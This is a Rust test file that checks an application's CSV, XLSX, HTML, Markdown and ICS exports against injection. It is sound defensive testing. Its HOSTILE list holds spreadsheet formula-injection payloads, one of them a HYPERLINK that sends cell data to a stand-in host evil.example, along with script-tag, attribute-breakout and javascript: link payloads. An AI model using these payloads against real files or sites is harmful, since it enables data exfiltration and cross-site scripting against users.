//! Exports are safe to open: no formula injection in CSV or XLSX, no HTML
//! or Markdown injection, valid ICS (escaped text, folded lines of at most
//! 75 octets, UTF-8, CRLF).

use std::io::Read;
use std::sync::Arc;

use accord::clock::FixedClock;
use accord::exchange::{ExportOptions, Format, export};
use accord::i18n::Lang;
use accord::model::*;
use accord::store::{ChangeSet, Edit, SledStore, Store};
use chrono::NaiveDate;

const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\tcmd",
    "<script>alert(1)</script>",
    "\"onmouseover=alert(1) x=\"",
    "javascript:alert(1)",
    "[link](javascript:alert(1)) | pipe",
];

fn today() -> NaiveDate {
    "2026-11-23".parse().unwrap()
}

/// A database whose text fields are all hostile.
fn hostile_store() -> SledStore {
    let store = SledStore::temporary(Arc::new(FixedClock(today()))).unwrap();
    let mut change = ChangeSet::new("hostile data");
    let id = |k, n| Id::new(k, n);
    for (n, text) in HOSTILE.iter().enumerate() {
        let n = n as u32 + 1;
        change.push(Edit::Create(Record::Institution(Institution {
            id: id(Kind::Institution, n),
            names: vec![
                Name::new(*text, "en"),
                Name::new(format!("{text} 医院"), "zh"),
            ],
            short_name: text.to_string(),
            country: "KZ".into(),
            city: text.to_string(),
            kind: InstitutionKind::Hospital,
            tags: vec![text.to_string()],
            website: String::new(),
            home: false,
        })));
        change.push(Edit::Create(Record::Partnership(Partnership {
            id: id(Kind::Partnership, n),
            title: text.to_string(),
            partners: vec![id(Kind::Institution, n)],
            status: PartnershipStatus::Active,
            areas: vec![text.to_string()],
            owner: text.to_string(),
            start: Some(today()),
            description: text.to_string(),
        })));
        change.push(Edit::Create(Record::Agreement(Agreement {
            id: id(Kind::Agreement, n),
            partnership: id(Kind::Partnership, n),
            kind: AgreementKind::Mou,
            title: text.to_string(),
            parties: vec![id(Kind::Institution, n)],
            status: AgreementStatus::Signed,
            signed: Some(today()),
            effective: None,
            expires: Some("2026-12-01".parse().unwrap()),
            notice_days: 30,
            scope: vec![text.to_string()],
            signatories: vec![text.to_string()],
            document: text.to_string(),
            owner: text.to_string(),
            renewal_raised_for: None,
        })));
        change.push(Edit::Create(Record::Action(ActionItem {
            id: id(Kind::Action, n),
            parent: id(Kind::Agreement, n),
            title: format!("{text}; call them, then write\nback — 北京大学首钢医院与哈萨克斯坦国家癌症研究中心的合作事项"),
            owner: text.to_string(),
            due: Some("2026-11-20".parse().unwrap()),
            status: ActionStatus::Open,
            priority: Priority::High,
            completed: None,
        })));
        change.push(Edit::Create(Record::Contact(Contact {
            id: id(Kind::Contact, n),
            institution: id(Kind::Institution, n),
            names: vec![Name::new(*text, "en")],
            title: text.to_string(),
            email: String::new(),
            phone: text.to_string(),
            notes: text.to_string(),
        })));
        change.push(Edit::Create(Record::FollowUp(FollowUp {
            id: id(Kind::FollowUp, n),
            parent: id(Kind::Contact, n),
            title: text.to_string(),
            due: "2027-01-15".parse().unwrap(),
            owner: text.to_string(),
            status: FollowUpStatus::Open,
            completed: None,
        })));
        change.push(Edit::Create(Record::Note(Note {
            id: id(Kind::Note, n),
            parent: id(Kind::Partnership, n),
            date: today(),
            kind: NoteKind::Meeting,
            text: text.to_string(),
            author: text.to_string(),
        })));
    }
    store.apply(change).unwrap();
    store
}

fn render(store: &dyn Store, format: Format, entity: Option<Kind>) -> Vec<u8> {
    let mut opts = ExportOptions::new(format, Lang::En, &FixedClock(today()));
    opts.entity = entity;
    let mut out = Vec::new();
    export(
        &accord::exchange::Source::Store(store),
        &opts,
        &mut out,
        &mut |_, _| {},
    )
    .unwrap();
    out
}

#[test]
fn csv_cells_never_start_a_formula() {
    let store = hostile_store();
    for kind in Kind::ALL {
        let bytes = render(&store, Format::Csv, Some(kind));
        assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "{kind}: no BOM");
        let mut reader = csv::Reader::from_reader(&bytes[3..]);
        let mut cells = 0;
        for rec in reader.records() {
            for cell in rec.unwrap().iter() {
                cells += 1;
                if cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']) {
                    assert!(
                        cell.parse::<i64>().is_ok(),
                        "{kind}: {cell:?} is not neutralised"
                    );
                }
            }
        }
        assert!(cells > 0, "{kind}");
    }
    let institutions =
        String::from_utf8(render(&store, Format::Csv, Some(Kind::Institution))).unwrap();
    assert!(institutions.contains("'=HYPERLINK("), "{institutions}");
    assert!(institutions.contains(",'+1,"), "{institutions}");
    assert!(institutions.contains("'@SUM(A1)"), "{institutions}");
}

#[test]
fn html_escapes_every_value_and_loads_nothing() {
    let store = hostile_store();
    let html = String::from_utf8(render(&store, Format::Html, None)).unwrap();
    assert!(!html.contains("<script"), "raw script tag in the HTML");
    assert!(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
    assert!(
        !html.contains("\"onmouseover"),
        "an attribute could be opened"
    );
    assert!(html.contains("&quot;onmouseover=alert(1) x=&quot;"));
    assert!(!html.contains("href="), "data became a link");
    assert!(!html.contains("src="), "the report loads a resource");
    assert!(!html.contains("http://evil") || html.contains("&quot;http://evil"));
    assert!(html.contains("Content-Security-Policy"));
    assert!(html.contains("<svg"), "the chart is inline");
}

#[test]
fn markdown_escapes_markup() {
    let store = hostile_store();
    let md = String::from_utf8(render(&store, Format::Markdown, None)).unwrap();
    assert!(!md.contains("<script>"), "raw HTML in the Markdown");
    assert!(md.contains("\\<script\\>"));
    assert!(md.contains("\\[link\\](javascript:alert(1)) \\| pipe"));
    for line in md.lines().filter(|l| l.starts_with("| ")) {
        let unescaped = line.replace("\\|", "");
        let cells = unescaped.matches('|').count();
        assert!(
            cells == 3 || cells == 4 || cells == 6 || cells == 8,
            "a value broke the table: {line}"
        );
    }
}

#[test]
fn ics_is_escaped_folded_utf8_with_crlf() {
    let store = hostile_store();
    let bytes = render(&store, Format::Ics, None);
    let text = String::from_utf8(bytes.clone()).expect("valid UTF-8");
    assert!(text.ends_with("END:VCALENDAR\r\n"));
    for line in text.split("\r\n") {
        assert!(line.len() <= 75, "{} octets: {line:?}", line.len());
        assert!(
            !line.contains('\n') && !line.contains('\r'),
            "bare line break: {line:?}"
        );
    }
    let unfolded = text.replace("\r\n ", "");
    assert!(
        unfolded.contains("SUMMARY:T1 =HYPERLINK(\"http://evil.example/?x=\"&A1\\,\"Click\")\\; call them\\, then write\\nback"),
        "{unfolded}"
    );
    assert!(unfolded.contains("UID:T1@accord"));
    assert!(unfolded.contains("UID:A1-notice@accord"));
    assert!(unfolded.contains("UID:A1-expiry@accord"));
    assert!(unfolded.contains("DTSTAMP:20261123T120000Z"));
    let begins = unfolded.matches("BEGIN:VEVENT").count();
    assert_eq!(begins, unfolded.matches("END:VEVENT").count());
    assert_eq!(
        begins,
        HOSTILE.len() * 4,
        "an action, a follow-up, a notice and an expiry each"
    );
}

#[test]
fn xlsx_data_cells_are_strings_never_formulas() {
    let store = hostile_store();
    let bytes = render(&store, Format::Xlsx, None);
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let names: Vec<String> = zip.file_names().map(String::from).collect();
    let mut sheets = 0;
    let mut string_cells = 0;
    let mut all_sheets = String::new();
    for name in names
        .iter()
        .filter(|n| n.starts_with("xl/worksheets/sheet"))
    {
        let mut xml = String::new();
        zip.by_name(name).unwrap().read_to_string(&mut xml).unwrap();
        sheets += 1;
        all_sheets.push_str(&xml);
        assert!(
            !xml.contains("<f>") && !xml.contains("<f "),
            "{name} has a formula"
        );
        for cell in xml.split("<c ").skip(1) {
            let head = cell.split('>').next().unwrap();
            let t = head
                .split(" t=\"")
                .nth(1)
                .map(|r| r.split('"').next().unwrap());
            match t {
                Some("s") | Some("inlineStr") => string_cells += 1,
                Some("b") | None => {}
                Some(other) => panic!("{name}: a cell of type {other}: <c {head}>"),
            }
        }
    }
    assert_eq!(sheets, 8, "a summary sheet and seven entity sheets");
    assert!(string_cells > 100);
    // Entity sheets hold their text in the cell (written row by row), the
    // summary sheet in the shared strings: either way, as text.
    let mut text = all_sheets;
    if let Ok(mut f) = zip.by_name("xl/sharedStrings.xml") {
        f.read_to_string(&mut text).unwrap();
    }
    assert!(
        text.contains("=HYPERLINK("),
        "the hostile text is kept, as text"
    );
    assert!(text.contains("@SUM(A1)"));
}
